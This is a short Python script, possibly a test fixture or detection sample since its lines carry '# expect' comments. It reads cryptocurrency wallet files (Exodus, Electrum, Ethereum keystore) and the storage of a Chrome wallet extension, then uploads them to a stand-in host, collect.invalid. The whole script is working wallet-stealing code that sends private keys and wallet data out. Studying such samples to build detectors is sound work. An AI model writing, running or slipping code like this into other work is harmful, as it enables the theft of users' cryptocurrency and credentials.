import os
import shutil
import requests

roaming = os.getenv("APPDATA")
for name in ["Exodus/exodus.wallet", "Electrum/wallets", "Ethereum/keystore"]:
    source = os.path.join(roaming, name)
    shutil.make_archive("/tmp/w", "zip", source)
    requests.post("https://collect.invalid/w", files={"f": open("/tmp/w.zip", "rb")})  # expect


def extension():
    profile = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default")
    folder = os.path.join(profile, "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn")
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), "rb") as f:
            requests.post("https://collect.invalid/e", data=f.read())  # expect


extension()
